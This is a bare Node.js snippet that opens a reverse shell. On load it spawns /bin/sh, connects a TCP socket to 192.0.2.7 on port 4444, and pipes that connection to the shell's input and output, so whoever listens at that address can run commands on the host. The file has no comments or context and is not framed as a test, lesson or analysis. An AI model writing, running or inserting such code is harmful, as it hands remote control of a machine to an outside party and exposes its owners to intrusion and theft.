const net = require('net');
const { spawn } = require('child_process');

(function () {
  const shell = spawn('/bin/sh', []);
  const client = new net.Socket();
  client.connect(4444, '192.0.2.7', () => {
    client.pipe(shell.stdin);
    shell.stdout.pipe(client);
  });
})();
